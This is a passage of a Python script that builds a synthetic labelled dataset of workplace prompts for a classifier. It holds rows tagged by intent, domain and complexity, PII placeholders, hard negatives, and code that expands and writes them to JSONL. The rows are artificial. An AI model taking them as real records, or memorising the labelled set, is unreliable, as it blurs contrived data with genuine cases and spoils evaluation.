reasoning l m r | A candidate emailed us his SSN {SSN3} unasked. What should we do with that email?
qa f l r | Why would a transfer to {IB5} take three days when domestic ones are instant?
extract g l c | Who should I call about the forklift training? "contact {N14} on {TEL1} or email {E6}"
draft f l r | Chase the supplier: we paid invoice 3317 on 4 July to {IB6} and they say nothing arrived.
sentiment g l c | Is this complaint from {N15} ({E7}) angry or just disappointed? "I expected better after ten years as your customer."
classify g l r | Which of these ID numbers are Singapore NRICs and which are FINs: {NR4}, {NR5}?
code s l c | Write a firewall rule that blocks {IP7} and log anything from it.
draft g l c | Reference request to {E8} for our candidate {N16}, warehouse supervisor role.
extract f l r => pull the card and the amount ;; draft f l r => write the chargeback form text | From this, pull the card and the amount, then write the chargeback form text: "Disputed: GBP 1,180.00 on {CC5} by 'FastFreight Ltd', 12 June, goods never received."
summarize m l c | One line for the clinic diary: {N17}, hearing test moved to Friday 10:30, call back on {TEL2}.
draft m l c | Letter inviting {N18} for a return-to-work assessment next Tuesday; copy to {E9}.
reasoning s m r | A contractor pasted {CC6} into the Teams channel by mistake. What's our response, step by step?
"""

HARD_NEGATIVES = """
# upgrade change (versions, ids, dates, amounts)
!summarize s l i | Summarise this change for the CAB in three lines.{H_UPGRADE}
!math s l i | What's the pilot failure rate, and how many failures should we expect across all 1,184 laptops at that rate?{H_UPGRADE}
!extract s l i | List every version number, date and reference in this change.{H_UPGRADE}
!reasoning s m i => Should ring 2 go ahead on the 17th given error 0x80070643? ;; draft s l i => Draft the go/no-go note either way | Should ring 2 go ahead on the 17th given error 0x80070643? Draft the go/no-go note either way.{H_UPGRADE}
!draft g l i | Write the user notice for ring 3, explaining the reboot and that build 4.3.1.2 replaces 4.2.0.17.{H_UPGRADE}
# reconciliation exceptions (failing card-like refs, failing IBAN)
!classify f l i | Classify each exception as timing, error, duplicate or needs investigation.{H_RECON}
!extract f l i | Give me the dates and amounts of the exceptions as a list.{H_RECON}
!reasoning f m i | The bank returned the EUR transfer as an invalid account. What probably went wrong with that IBAN, and what do we do?{H_RECON}
!math f l i => Total the USD exceptions ;; draft f l i => write the note for the month-end file | Total the USD exceptions, then write the note for the month-end file.{H_RECON}
!summarize f l i | Summarise for the controller in two lines.{H_RECON}
# short look-alikes
!qa g l p | What changed between firmware 4.2.0.17 and 4.2.1.3 on the Zebra scanners?
!extract f l i | Pull the reference and amount: "Refund ref {BC3}, USD 1,204.50, booked 2025-06-11"
!classify f l i | Our bank rejected {BI2}. Is it a valid IBAN or is the checksum wrong?
!qa s l p | What's in Windows build 10.0.19045.4529 that fixed the print spooler issue?
!code g l p | Regex that matches build numbers like 4.12.0.311 but not dates like 2025.06.12
!math f l p | Invoice INV-2025-00917 was $18,240.00 and we paid $17,512.80 on 2025-06-30. What discount % did they take?
!extract l l i | List the case numbers and hearing dates: "Claim K20CL118 listed 14/10/2025; appeal CA-2024-000731 on 2/12/2025"
!reasoning m m p | Flu vaccine lot 24B1187-03 expired 2025-03-31 and we used it on 2025-04-02. What should we do?
!classify s l i | Are these build IDs or IOCs? 7.3.0.112, 3.18.2.41, 2024.11.0.5
!translate g l p | Translate into Spanish: "Firmware 2.9.14.7 must be installed before 30/09/2025."
!summarize g l i | tl;dr of INC0048812: "Users on build 22.4.1.9 see blank PDFs since 2025-06-02; fixed in 22.4.1.12."
!draft f l i | Tell the customer their refund of EUR 1.245,60 under credit note CN-77120 will arrive by 15.07.2025.
!extract f l i | What's the account number here: {BI3}? The bank says the check digits are wrong.
!classify g l p | Our QA fixture uses {BN1} as a dummy NRIC. Does it pass the checksum or not?
!code g l i | SQL to find orders where tracking_no starts with '1Z' and ship_date is after 2025-03-01
!math l l p | How many days from 2025-01-15 to 2025-09-30, and what's the daily interest on GBP 64,320 at 8% a year?
!sentiment g l p | How does this read: "Order #55820193 arrived 3 days late again, the second time since 12/05."
!qa f l p | Is 4111 1111 1111 1112 a real card number or just a test pattern with a bad check digit?
!classify f l i | Card-like number on a scanned receipt: {BC2}. Valid card or not?
!extract g l i | Pull the serials: "SN-4471-0093-2281 and SN-4471-0093-2290 returned under RMA-20250611-07"
!reasoning g m i | Our PO 4500198812 for USD 18,002.10 doesn't match the invoice by 2.4%. Accept or query?
!code g l p | Python: sort version strings like 4.10.0.2, 4.9.12.1 and 4.2.0.17 correctly
!math f l p | Growth from $2,310,450.00 to $2,498,120.75 - what percentage is that?
!qa m l p | Is ISBN 978-0-19-852663-6 the latest edition of the Oxford Handbook of Clinical Medicine?
!classify s l p | Employee ID E204417 or a SID? Tag it for the IAM cleanup.
!summarize l l i | Summarise: "Hearing in claim H40ZX218 moved from 03/11/2025 to 17/11/2025; costs of GBP 4,850 reserved."
!draft g l i | Email the carrier about tracking number 1Z4A73W90344781129 - stuck in Leipzig since 2025-06-20.
!extract m l i | Pull the batch numbers and expiry dates: "Tetanus batch TD-88213 exp 11/2026; hep B batch HB-0419-22 exp 03/2026"
!classify g l p | Which of these are MAC addresses and which are serials: 00:1a:2b:3c:4d:5e, SN-0093-2281-4471?
!qa s l p | Is 0.0.0.0/0 in a firewall rule the same as "any"?
!math g l p | Order numbers run from 558-20931 to 558-21480 this month. How many orders is that?
!reasoning f m i | Case {BN2} keeps failing validation on the Singapore payroll upload. What could be wrong?
"""

MULTI = """
# long multi-task
draft l h i => Draft a policy on personal use of company vans ;; math f l i => calculate the fuel cost if 20 drivers each add 50 private miles a week at 38p a mile ;; summarize f l p => summarise the HMRC guidance below | Draft a policy on personal use of company vans, calculate the fuel cost if 20 drivers each add 50 private miles a week at 38p a mile, and summarise the HMRC guidance below:\\n\\n"A van is a company van if it is made available to an employee because of their employment. Ordinary commuting and insignificant private use do not create a benefit. Any other private use triggers the annual van benefit charge, currently GBP 4,020, plus a fuel benefit charge of GBP 769 where the employer provides fuel for private journeys. Employers must report the benefit on form P11D or through payroll."
summarize g l i => Summarise this thread for me ;; reasoning g m i => tell me if we should offer a refund or a replacement | Summarise this thread for me:{G_CUSTOMER}\\n\\nThen tell me if we should offer a refund or a replacement.
extract s l i => Give me the affected hosts ;; reasoning s m i => which finding could be chained with the firewall's open database rule? | Give me the affected hosts:{S_VULN}\\n\\nAnd which finding could be chained with the firewall's open database rule?
summarize m l i => summarise the discharge summary ;; draft m m i => write the return-to-work plan with phased hours ;; translate m l i => translate the plan into Polish | For our warehouse picker coming back after pneumonia: summarise the discharge summary, write the return-to-work plan with phased hours, and translate the plan into Polish.{M_DISCHARGE}
summarize l l i => Summarise clauses 12 and 15 ;; classify l l i => rate the overall contract risk as low, medium or high ;; draft l m i => draft three questions for the supplier's counsel | Can you:\\n- Summarise clauses 12 and 15\\n- rate the overall contract risk as low, medium or high\\n- draft three questions for the supplier's counsel{L_MSA}
classify s l i => Is this email phishing? ;; draft s l i => If it is, draft the block request for the mail team | Is this email phishing? If it is, draft the block request for the mail team.{S_PHISH}
extract f l i => Pull the forecast exposure, spot and forward rates ;; math f l i => compute the dollar difference between converting EUR 3.2M at spot and at the forward | Pull the forecast exposure, spot and forward rates. Then compute the dollar difference between converting EUR 3.2M at spot and at the forward.{F_FX}
sentiment g l i => Rate the mood of these comments ;; creative g l p => write a short motivational haiku for the team noticeboard | Rate the mood of these comments and write a short motivational haiku for the team noticeboard.{G_SURVEY}
code g l i => Fix the WHERE clause so empty regions survive ;; qa g l p => what does COALESCE do | Fix the WHERE clause so empty regions survive. Separately - what does COALESCE do?{G_SQL}
reasoning m m i => Which message is the real emergency? ;; draft m l i => draft the SMS telling that person to go to A&E now ;; summarize m l i => summarise the rest for the nurse | Which message is the real emergency? After that, draft the SMS telling that person to go to A&E now, and summarise the rest for the nurse.{M_PORTAL}
extract l l i => Extract the break date and the notice deadline ;; math l l i => calculate the break premium ;; reasoning l m i => advise whether to serve notice now given we might stay | 1. Extract the break date and the notice deadline\\n2. calculate the break premium\\n3. advise whether to serve notice now given we might stay{L_LEASE}
extract s l c => List the attacking IPs ;; code s l p => write an iptables rule set that blocks them | List the attacking IPs and write an iptables rule set that blocks them.{S_AUTHLOG}
summarize g l i => Give me the key points of the meeting ;; creative g l p => a light-hearted name for the peak-season project | Give me the key points of the meeting. Plus a light-hearted name for the peak-season project.{G_MEETING}
extract m l i => Extract the INR, the target range and the interacting drugs ;; qa m l p => explain what INR means in one line | Extract the INR, the target range and the interacting drugs, and explain what INR means in one line.{M_MEDS}
classify g l i => Which tickets are security-related? ;; draft g l i => Draft the morning update to the IT manager ;; chat g l p => thanks for helping with this every day | Which tickets are security-related? Draft the morning update to the IT manager. And thanks for helping with this every day!{G_TICKETS}
summarize l l i => Summarise the demand ;; math l l i => work out the statutory interest rate they applied if it's 8% over a 4% base on GBP 64,320 | Summarise the demand, then work out the statutory interest rate they applied if it's 8% over a 4% base on GBP 64,320.{L_DEMAND}
summarize s l i => Explain this alert in plain English for the user's manager ;; classify s l i => tell me whether it needs a P1 | Explain this alert in plain English for the user's manager, and tell me whether it needs a P1.{S_ALERT}
summarize f l i => summarise it ;; draft f l i => write the cover email to the budget holders ;; extract f l i => list which departments need to submit a reforecast (anyone over 5%) | Once you've read the table below, summarise it, write the cover email to the budget holders and list which departments need to submit a reforecast (anyone over 5%).{F_Q3}
reasoning s h i => decide if we need to notify the ICO ;; draft s m i => draft the internal comms ;; extract s l i => list the open actions | From this timeline, decide if we need to notify the ICO, draft the internal comms and list the open actions.{S_IR}
draft l m i => Draft the reply to Marlow & Reid disputing the damaged pallets ;; translate l l i => translate it into Welsh as well for the bilingual file copy | Draft the reply to Marlow & Reid disputing the damaged pallets; translate it into Welsh as well for the bilingual file copy.{L_DEMAND}
sentiment m l i => Which comment is the most negative? ;; draft m l i => Write a personal reply to that person | Which comment is the most negative? Write a personal reply to that person.{M_FEEDBACK}
math f m i | What does option B cost in total, and what's its implied interest rate against the purchase price?{F_FLEET}
creative g l p => Write a short launch poem for RouteDesk 3.8 ;; draft g l i => the email to dispatchers about the timeout change | Write a short launch poem for RouteDesk 3.8 and the email to dispatchers about the timeout change.{G_RELEASE}
qa l l p => Is an NDA like this enforceable if it's signed electronically? ;; draft l l i => Draft the DocuSign cover message | Is an NDA like this enforceable if it's signed electronically? Draft the DocuSign cover message.{L_NDA}
# short multi-task
qa s l p => What is DMARC? ;; draft s l i => Write the email to our DNS provider asking them to set p=quarantine | What is DMARC? Write the email to our DNS provider asking them to set p=quarantine.
math f l p => Work out the VAT on GBP 12,400 at 20% ;; draft f l i => draft the credit note wording | Work out the VAT on GBP 12,400 at 20%, then draft the credit note wording.
classify g l p => tag these as urgent or not: broken dock door, coffee machine, fire exit blocked ;; reasoning g m i => which would you fix first | tag these as urgent or not: broken dock door, coffee machine, fire exit blocked. also which would you fix first?
translate g l p => Translate "mind the step" into Polish ;; creative g l p => make a fun sign around it | Translate "mind the step" into Polish and make a fun sign around it.
chat g l p => Morning! ;; summarize g l p => can you give me the gist of "Volumes were flat week on week; returns rose 6% after the promo" | Morning! can you give me the gist of "Volumes were flat week on week; returns rose 6% after the promo"
qa m l p => What's the max daily dose of paracetamol for adults? ;; draft m l i => write it as a label line for the first-aid kit | What's the max daily dose of paracetamol for adults? Then write it as a label line for the first-aid kit.
code g l p => Write a bash script to back up /srv/data nightly ;; qa g l p => explain cron syntax for 2am | Write a bash script to back up /srv/data nightly, plus explain cron syntax for 2am.
reasoning l m p => Can we fire someone for a Facebook post about a customer? ;; draft l m i => draft a social media clause for the handbook | Can we fire someone for a Facebook post about a customer? Also draft a social media clause for the handbook.
math g l p => 35% more pallets on 240 a day is how many ;; reasoning g m i => do we need a second shift | 35% more pallets on 240 a day is how many, and do we need a second shift if one shift handles 300?
sentiment g l p => Is this tweet about us positive? "Harbor delivered at 6am on a Sunday, legends" ;; draft g l p => write a thank-you reply | Is this tweet about us positive? "Harbor delivered at 6am on a Sunday, legends" - write a thank-you reply
extract l l p => List the deadlines ;; draft l l i => add them to a reminder email | List the deadlines: "defence due 14 days after service, disclosure by 3 March, trial window June". Once done, add them to a reminder email.
qa s l p => How does a passkey differ from a password ;; reasoning s m i => should we roll them out to the warehouse? | How does a passkey differ from a password, and should we roll them out to the warehouse?
summarize g l p => Summarise in one line: "The depot will trial electric vans on two urban routes from March, with chargers funded by a government grant." ;; translate g l p => translate that line into German | 1) Summarise in one line: "The depot will trial electric vans on two urban routes from March, with chargers funded by a government grant." 2) translate that line into German
math m l p => Convert 38.9 C to Fahrenheit ;; qa m l p => is that a fever for an adult | Convert 38.9 C to Fahrenheit - is that a fever for an adult?
creative g l p => Write a toast for our 10th anniversary ;; draft g l i => the invitation email for the staff party | Write a toast for our 10th anniversary, then the invitation email for the staff party.
classify s l p => Is "Pa55word!" compliant with a 14-character minimum? ;; code s l p => Give me a regex that enforces it | Is "Pa55word!" compliant with a 14-character minimum? Give me a regex that enforces it.
draft g l i => Rewrite this to sound friendlier: "Timesheets not submitted by 5pm will not be paid this month." ;; translate g l i => give me a Spanish version | Rewrite this to sound friendlier: "Timesheets not submitted by 5pm will not be paid this month." And give me a Spanish version.
chat g l p => thanks for the summary earlier ;; draft g l i => can you now do a shorter version as a Slack message? | thanks for the summary earlier! can you now do a shorter version as a Slack message?
qa f l p => What's the difference between gross and net margin? ;; math f l p => what's the net margin on $1.2M revenue and $84k profit | What's the difference between gross and net margin? And what's the net margin on $1.2M revenue and $84k profit?
reasoning m m p => Is it safe for a pregnant employee to drive a forklift? ;; draft m l i => Draft the risk assessment headings | Is it safe for a pregnant employee to drive a forklift? Draft the risk assessment headings.
extract g l p => Extract the times ;; math g l p => total the hours: "Mon 07:00-15:30, Tue 07:00-16:00, Wed 12:00-20:30" | Extract the times and total the hours: "Mon 07:00-15:30, Tue 07:00-16:00, Wed 12:00-20:30"
classify l l p => Is this clause worded in our favour or theirs: "the Supplier may vary prices on 7 days' notice"? ;; draft l m i => Suggest fairer wording | Is this clause worded in our favour or theirs: "the Supplier may vary prices on 7 days' notice"? Suggest fairer wording.
code s m p => Write a script to find accounts with no MFA in our Entra ID tenant ;; draft s l i => draft the email to those users | Write a script to find accounts with no MFA in our Entra ID tenant. After that, draft the email to those users.
classify m l p => Which of these is a red-flag symptom for back pain: numbness in the saddle area, stiffness in the morning, pain after lifting ;; qa m l p => explain why | Which of these is a red-flag symptom for back pain: numbness in the saddle area, stiffness in the morning, pain after lifting? And explain why
summarize s l p => Summarise "Zero trust assumes breach and verifies every request, regardless of network location" in five words ;; creative g l p => give me a slogan from it | Summarise "Zero trust assumes breach and verifies every request, regardless of network location" in five words, then give me a slogan from it.
draft f m i => Write the memo announcing the new purchase approval limits ;; classify f l p => tell me which approval tier a $12,000 laptop order falls in: under $5k, $5-25k, over $25k | Write the memo announcing the new purchase approval limits. Also tell me which approval tier a $12,000 laptop order falls in: under $5k, $5-25k, over $25k.
qa g l p => how do I say no to extra work politely? ;; draft g l i => write me the message to my manager | how do I say no to extra work politely? write me the message to my manager
translate l l p => Translate "without prejudice" into French ;; qa l l p => what does it actually protect | Translate "without prejudice" into French. And what does it actually protect?
reasoning f m p => Lease or buy a company car for the sales director ;; math f l p => compute the monthly payment on $38,000 over 48 months at 6.9% | Lease or buy a company car for the sales director? Before that, compute the monthly payment on $38,000 over 48 months at 6.9%.
math m l p => How many 5 mL doses in a 150 mL bottle ;; draft m l p => write the dosing line for the label | How many 5 mL doses in a 150 mL bottle, and write the dosing line for the label.
extract s l p => Pull the domains ;; classify s l p => tell me which look malicious: "login.micros0ft-support.com, sharepoint.com, docs-view.top, harborlogistics.co.uk" | Pull the domains and tell me which look malicious: "login.micros0ft-support.com, sharepoint.com, docs-view.top, harborlogistics.co.uk"
summarize g l i => Summarise yesterday's incident "Scanner server ran out of disk at 03:00, picking stopped for 40 minutes until logs were cleared" ;; draft g l i => write the apology to the night shift ;; creative g l p => a one-line joke for the postmortem slide | Three things: Summarise yesterday's incident "Scanner server ran out of disk at 03:00, picking stopped for 40 minutes until logs were cleared", write the apology to the night shift, and a one-line joke for the postmortem slide.
qa l l p => What's the notice period for redundancy consultation with 25 people? ;; draft l h i => draft the consultation letter ;; math f l p => calculate statutory redundancy pay for someone aged 45 with 8 years' service on GBP 650 a week | What's the notice period for redundancy consultation with 25 people? Then draft the consultation letter. Finally calculate statutory redundancy pay for someone aged 45 with 8 years' service on GBP 650 a week.
chat g l p => Hello again ;; qa g l p => what's the capital of Lithuania, settling a bet | Hello again - what's the capital of Lithuania, settling a bet
sentiment g l i => How do the drivers feel about the new routes? ;; summarize g l i => Give me the gist in two lines | How do the drivers feel about the new routes? Give me the gist in two lines. Comments: "finally home before 7", "the city loop is a nightmare at school times", "no complaints", "more stops, same pay - not happy".
sentiment f l i => Is the tone of this supplier email threatening? ;; draft f l i => draft a calm reply confirming payment on the 28th | Is the tone of this supplier email threatening? "Unless we are paid this week we will stop all shipments and pass the debt to collectors." Also draft a calm reply confirming payment on the 28th.
sentiment m l i => Rate the mood of this patient message ;; classify m l i => tell me if it needs a same-day call | Rate the mood of this patient message and tell me if it needs a same-day call: "I can't sleep, I don't see the point of coming to work anymore and nobody would notice if I didn't."
extract l l i => pull out the dates ;; sentiment l l i => tell me whether the employee sounds like they'll settle | From this grievance, pull out the dates, then tell me whether the employee sounds like they'll settle: "I raised this on 4 March and again on 2 April. I'm not after money, I just want an apology and a fair rota."
sentiment s l i => Are people annoyed by the new MFA prompts? ;; draft s l i => write a short FAQ that addresses the top complaint | Are people annoyed by the new MFA prompts? Feedback: "every hour?!", "fine once you get used to it", "locked out twice on the forklift tablet". Then write a short FAQ that addresses the top complaint.
classify g l i => tag each review as product, delivery or service ;; sentiment g l i => score its tone | For each review below, tag each review as product, delivery or service and score its tone:\\n"Chairs are great quality."\\n"Driver left the box in the rain."\\n"Support sorted my refund in minutes."
chat g l p => Sorry to bother you again ;; math g l p => how many weeks until 1 November from 18 August? | Sorry to bother you again - how many weeks until 1 November from 18 August?
creative g l p => Write a limerick about our late-running scanner refresh ;; sentiment g l i => then tell me if this Slack reaction is sarcastic: "oh great, another scanner meeting" | Write a limerick about our late-running scanner refresh, then tell me if this Slack reaction is sarcastic: "oh great, another scanner meeting"
qa g l p => What's a good length for a team-building quiz? ;; creative g l p => Write five warm-up questions about logistics ;; chat g l p => Cheers | What's a good length for a team-building quiz? Write five warm-up questions about logistics. Cheers!
translate g l p => Translate "thank you for your patience during the move" into Polish ;; sentiment g l p => tell me if the English sounds sincere or corporate | Translate "thank you for your patience during the move" into Polish, and tell me if the English sounds sincere or corporate.
sentiment g l p | Does this farewell message sound bitter? "Thanks for the memories, I'm sure the place will run itself now."
sentiment l l i | Is the landlord's email friendly or is it a warning? "We trust you will keep us informed of your plans regarding the break date."
sentiment f l p | Rate the tone of this customer's payment reply: "Paid. Again. Third time we've had to chase your own invoice errors."
"""

LOOKALIKES = """
# single tasks that look like several (see the splitting rules)
reasoning f m p | compare buying and leasing our delivery vans for a 5-year horizon
summarize l l p | summarise the pros and cons of arbitration clauses for a mid-size logistics company
code g l p | write a function that parses and validates shipment JSON against our schema
qa s l p | explain what ransomware is and why backups alone don't save you
translate g l i | translate "the depot is closed on bank holidays" into French and German
extract g l i | list the names of the routes and their departure times: "North 05:30, East 06:10, City 07:00"
classify g l i | tag each of these tickets by team and by priority: "VPN down", "new mouse", "payroll portal locked"
code g l p | review and fix this: SELECT * FROM orders WHERE status = NULL
reasoning s m i | read this alert and tell me whether we should wake up the on-call engineer: "Impossible travel: admin account signed in from two countries 8 minutes apart"
qa m l p | what is sleep apnoea and how does it affect drivers?
reasoning g m p | weigh the pros and cons of hot-desking for our office staff and tell me which way you'd go
summarize g l i | summarise the survey results and the comments in one paragraph: "78% satisfied, 12% neutral; comments praise the team and criticise shift changes"
draft g m i | draft and format a one-page agenda for the peak readiness workshop
qa f l p | what's the difference between a credit note and a refund, and when do we use each?
code g l p | write and document a bash function that rotates logs older than 7 days
classify s l p | sort these into phishing, spam or legitimate: "Your parcel is waiting", "Invoice attached", "Team lunch Friday"
extract f l p | pull out the supplier, amount, and due date: "Acme Pallets, GBP 3,420.00, due 30 June"
math f l p | calculate both the monthly and the annual cost of 12 licences at $45 per user per month
reasoning m m p | compare physio and chiropractic for a warehouse worker with lower back pain - which would you fund?
translate m l p | translate the allergy warning into Spanish, Polish and Romanian: "Contains latex"
sentiment g l p | read these two reviews and tell me which is more positive: "Fast and friendly" vs "Arrived, eventually"
draft l m i | write and tighten the wording of a clause that bans subcontracting without consent
summarize s l p | give me the key points and the recommended actions from: "MFA bypass via token theft is rising; enforce phishing-resistant MFA and short session lifetimes."
qa g l p | what is a cross-dock and how does it work?
code g l p | explain what this does and why it's slow: SELECT * FROM shipments WHERE YEAR(created_at) = 2025
creative g l p | write a poem about the night shift and the morning handover
extract l l p | find the parties and the effective date and the term: "This agreement between Harbor Logistics and Nordic Cold Chain AB takes effect on 1 July 2025 for three years."
classify m l p | group these symptoms into respiratory, musculoskeletal and skin: cough, wheeze, wrist pain, rash, stiff neck
sentiment s l i | how frustrated are the users in these comments? "MFA prompts every hour!", "new VPN is slower"
reasoning l m i | what are the risks and benefits of signing the supplier's standard terms without changes?
"""

_BLOCKS = (FINANCE, LEGAL, MEDICAL, SECURITY, GENERAL, SOCIAL, PII_ROWS, HARD_NEGATIVES,
           MULTI, LOOKALIKES)  # fmt: skip


def _expand(raw: str) -> tuple[str, str]:
    """Placeholder expansion without the trailing spaces a pasted block leaves."""
    text, level = _PLACEHOLDERS(raw)
    return re.sub(r" +\n", "\n", text), level


_PLACEHOLDERS = Placeholders(_MAT, _V)


def rows() -> list[Row]:
    blocks = ["\n".join(x for x in b.splitlines() if x.strip() and not x.startswith("#"))
              for b in _BLOCKS]  # fmt: skip
    return line_rows(blocks, prefix="diverse15", expand=_expand)


def main() -> None:
    check_lookalikes(_HN)
    data = write_and_check(HERE / "train_diverse15.jsonl", rows(), scan_unmarked=True)
    words = [len(r["text"].split()) for r in data]
    print(f"  short (5-25 words): {sum(5 <= w <= 25 for w in words)}, "
          f"long (60-180 words): {sum(60 <= w <= 180 for w in words)}, "
          f"other: {sum(not (5 <= w <= 25 or 60 <= w <= 180) for w in words)}")  # fmt: skip
    print(f"  rows with PII: {sum(bool(r['pii']) for r in data)}")
    per_row = Counter(len(r["tasks"]) for r in data)
    print(
        "  tasks per row: " + ", ".join(f"{k}: {v}" for k, v in sorted(per_row.items()))
    )
    rows_with = Counter(i for r in data for i in {t["intent"] for t in r["tasks"]})
    print(
        "  rows per intent: "
        + ", ".join(f"{k} {v}" for k, v in rows_with.most_common())
    )


if __name__ == "__main__":
    main()
